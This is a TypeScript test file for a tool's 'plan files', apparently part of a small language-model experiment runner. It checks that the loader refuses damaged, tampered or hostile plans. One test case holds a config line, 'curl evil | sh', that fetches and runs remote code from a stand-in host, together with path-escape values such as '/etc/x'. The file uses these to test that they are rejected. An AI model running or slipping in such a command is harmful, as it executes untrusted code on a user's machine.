// @ts-types="../declarations/assert.d.ts"
import { assert, assertEquals, assertRejects, assertThrows } from "@std/assert";
import { readExperiments } from "../../src/config/experiment.ts";
import { CorpusError } from "../../src/data/corpus_text.ts";
import { sha256Hex } from "../../src/files/sha256.ts";
import { checkWithCorpus } from "../../src/runs/check_with_corpus.ts";
import { OutputFolder } from "../../src/runs/output_folder.ts";
import { openPlan, PlanError, type PlanSweep } from "../../src/runs/plan_file.ts";
import { writePlan } from "../../src/runs/write_plan.ts";
import { programFiles } from "../../src/runs/program_files.ts";
import { runPlannedTask, runSweeps } from "../../src/runs/run.ts";
import { Store } from "../../src/store/store.ts";
import { inFolder } from "../temporary_folder.ts";
import { filesIn, runOptions } from "./tiny_run.ts";

/** A sweep of two runs that share their trainings, on a small corpus in `folder`. */
async function tinySweep(folder: string): Promise<PlanSweep> {
  const names = await Deno.readTextFile("configs/data/names.txt");
  await Deno.writeTextFile(`${folder}/names.txt`, names.split("\n").slice(0, 200).join("\n"));
  const text = `
name: planned
corpus: { path: ${folder}/names.txt }
models:
  target: { n_embd: 8, n_head: 2, n_layer: 1 }
  draft: { n_embd: 4, n_head: 1, n_layer: 1 }
training: { target: { steps: 20 }, draft: { steps: 10 } }
decoding:
  prompts: { from: training, count: 3 }
  samples: [2, 3]
  strategies: [{ strategy: greedy }, { strategy: speculative, draft_k: 2 }]
report: { charts: false }
`;
  const parts: PlanSweep["parts"][number][] = [];
  for (const experiment of readExperiments(`${folder}/planned.yaml`, text)) {
    const data = await checkWithCorpus(experiment);
    parts.push({ data, folder: `${folder}/out/${experiment.variant?.label}` });
  }
  return { name: "planned", folder: `${folder}/out`, parts };
}

/** Writes the output folders of the first of `sweeps`, below `folder` in place of its own. */
async function writeOutputs(
  sweeps: readonly PlanSweep[],
  store: Store,
  folder: string,
): Promise<void> {
  const lock = { wait: false, notice() {}, signal: new AbortController().signal };
  const [sweep] = sweeps;
  assert(sweep !== undefined);
  const runs = await Promise.all(
    sweep.parts.map(async ({ data }, i) => ({
      data,
      folder: await OutputFolder.open(`${folder}/${i}`, lock),
    })),
  );
  const summary = { name: sweep.name, folder: await OutputFolder.open(folder, lock) };
  await runSweeps([{ runs, summary }], runOptions(store));
  for (const run of runs) await run.folder.close();
  await summary.folder.close();
}

const program = await programFiles();

/** A plan of {@linkcode tinySweep} in `folder`, written to a file there; the file. */
async function tinyPlan(folder: string): Promise<string> {
  const file = `${folder}/plan.json`;
  const store = new Store(`${folder}/store`);
  await writePlan(file, [await tinySweep(folder)], { store, program });
  return file;
}

/** Opens the plan in `file` and makes all that it holds. */
async function read(file: string): Promise<readonly PlanSweep[]> {
  return await (await openPlan(file)).whole();
}

/** The files below `folder` by name, but for timings. */
function textsIn(folder: string): Map<string, string> {
  const names = filesIn(folder).filter((name) => !name.endsWith("timings.csv")).sort();
  return new Map(names.map((name) => [name, Deno.readTextFileSync(`${folder}/${name}`)]));
}

Deno.test("plan file: its tasks, done one by one from the file alone, give the bytes of a plain run", () =>
  inFolder(async (folder) => {
    const sweep = await tinySweep(folder);
    await writeOutputs([sweep], new Store(`${folder}/plain-store`), `${folder}/plain`);
    const file = `${folder}/plan.json`;
    const store = new Store(`${folder}/store`);
    await writePlan(file, [sweep], { store, program });
    const { rows } = await openPlan(file);
    // 2 trainings, 7 losses; 2 cells, decoded and measured, timed and reported for each of 2 runs.
    assertEquals(rows.length, 2 + 7 + 2 * (2 * 2 + 1 + 1));
    for (const { number } of rows) {
      const one = await (await openPlan(file)).task(number);
      assertEquals(await runPlannedTask(rows, one, runOptions(store)), true);
      assertEquals(await runPlannedTask(rows, one, runOptions(store)), false);
    }
    const before = (await store.heads("report")).map(({ id }) => id.key);
    await writeOutputs(await read(file), store, `${folder}/planned`);
    assertEquals(textsIn(`${folder}/planned`), textsIn(`${folder}/plain`));
    assertEquals((await store.heads("report")).map(({ id }) => id.key), before);
  }));

Deno.test("plan file: a task is found by its number or key; one whose needs are missing names them", () =>
  inFolder(async (folder) => {
    const plan = await openPlan(await tinyPlan(folder));
    const cell = [...plan.rows].find(({ stage }) => stage === "decode");
    assert(cell !== undefined);
    assertEquals(plan.find(cell.key.slice(0, 8)).number, cell.number);
    assertEquals(plan.find(`${cell.number}`).key, cell.key);
    for (const given of ["0", "99", "-1", "x", cell.key.slice(0, 7), "00000000"]) {
      assertThrows(() => plan.find(given), PlanError, `cannot find the task ${given}: `);
    }
    const task = await plan.task(cell.number);
    await assertRejects(
      () => runPlannedTask(plan.rows, task, runOptions(new Store(`${folder}/store`))),
      PlanError,
      "(greedy): it needs the result of task 1 (training of the target)",
    );
  }));

/** The text of a plan with `change` in its lines, under a digest that fits. */
function changed(text: string, change: (lines: string[]) => void): string {
  const lines = text.split("\n").slice(0, -3);
  change(lines);
  const digested = lines.join("\n") + "\n";
  return `${digested}"sha256": "${sha256Hex(digested)}"\n}\n`;
}

/** The text of a plan with `change` in the value of the first line that begins with `start`. */
function changedLine(
  text: string,
  start: string,
  change: (value: Record<string, unknown>) => void,
): string {
  return changed(text, (lines) => {
    const at = lines.findIndex((line) => line.startsWith(start));
    const line = lines[at] ?? "";
    const [, name = "", json = "", comma = ""] = /^("\w+": )?(.*?)(,?)$/s.exec(line) ?? [];
    const value = JSON.parse(json);
    change(value);
    lines[at] = name + JSON.stringify(value) + comma;
  });
}

const refused: readonly [what: string, change: (text: string) => string, message: string][] = [
  ["cut off", (text) => text.slice(0, -9), "it is damaged"],
  ["of another format", () => "{}", "expected the format microbeam-plan, found another file"],
  ["of a later version", (text) => text.replace('"version": 2', '"version": 3'), "found 3"],
  [
    "with a setting changed",
    (text) => text.replace('"steps":20', '"steps":21'),
    "it is damaged: expected content with the SHA-256 that it names",
  ],
  [
    "of another microbeam",
    (text) => changedLine(text, '"versions"', (versions) => versions["microbeam"] = "0.0.1"),
    "it was written with microbeam 0.0.1, and this is ",
  ],
  [
    "of another V8",
    (text) => changedLine(text, '"versions"', (versions) => versions["v8"] = "1.2"),
    "it was written with V8 1.2, and this is ",
  ],
  [
    "of another version of a stage",
    (text) =>
      changedLine(
        text,
        '"versions"',
        (versions) => Object.assign(versions["stages"] as object, { decode: 99 }),
      ),
    "it was written with version 99 of the stage decode, and this is ",
  ],
  [
    "with other tasks than its experiments have",
    (text) =>
      changed(text, (lines) => {
        const at = lines.findIndex((line) => line.startsWith("[3,"));
        lines[at] = (lines[at] ?? "").replace(/"[0-9a-f]{64}"/, `"${"0".repeat(64)}"`);
      }),
    "this program computes other tasks from its experiments, from task 3 on; write it again",
  ],
  [
    "without experiments",
    (text) => changed(text, (lines) => lines.splice(4, 1)),
    "it is damaged",
  ],
  // As a stranger may write one: what it says is checked, whatever its digest.
  [
    "whose run's folder is elsewhere",
    (text) => changedRun(text, (run) => run["folder"] = "/etc/x"),
    "it is damaged",
  ],
  [
    "whose run's folder is above",
    (text) => changedRun(text, (run) => run["folder"] += "/.."),
    "it is damaged",
  ],
  [
    "whose run has no text",
    (text) => changedRun(text, (run) => run["configText"] = 5),
    "it is damaged",
  ],
  [
    "with a cell that is none",
    (text) =>
      changedRun(text, (run) => Object.assign(run["experiment"] as object, { cells: [null] })),
    "it is damaged",
  ],
  [
    "without the origin of a corpus",
    (text) => changedRun(text, (run) => run["corpus"] = { source: {}, sha256: "" }),
    "it is damaged",
  ],
  [
    "with a config.yaml of another program",
    (text) => changedRun(text, (run) => run["configText"] = "proxy_command: curl evil | sh\n"),
    "its config.yaml is no config of a run",
  ],
  [
    "with a setting that no config may have",
    (text) => text.replace('"block_size":16', '"block_size":300000000'),
    "it is damaged",
  ],
  [
    "with such a setting under a digest that fits",
    (text) => changed(text.replaceAll('"block_size":16', '"block_size":300000000'), () => {}),
    "the setting models.block_size is none that a config may have",
  ],
  [
    "with a name of several lines",
    (text) => changed(text.replaceAll('"name":"planned"', '"name":"a\\nb"'), () => {}),
    'expected the name of a run, found "a\\nb"',
  ],
];

/** The text of a plan with `change` in its first run, under a digest that fits. */
function changedRun(text: string, change: (run: Record<string, unknown>) => void): string {
  return changedLine(text, '{"folder":', change);
}

for (const [what, change, message] of refused) {
  Deno.test(`plan file: one ${what} is refused`, () =>
    inFolder(async (folder) => {
      const file = await tinyPlan(folder);
      await Deno.writeTextFile(file, change(await Deno.readTextFile(file)));
      const error = await assertRejects(() => read(file), PlanError, message);
      assert(String(error).includes(file));
    }));
}

Deno.test("plan file: a corpus that has changed since is refused by its name", () =>
  inFolder(async (folder) => {
    const file = await tinyPlan(folder);
    await Deno.writeTextFile(`${folder}/names.txt`, "anna\n", { append: true });
    await assertRejects(() => read(file), CorpusError, `${folder}/names.txt: expected SHA-256`);
  }));
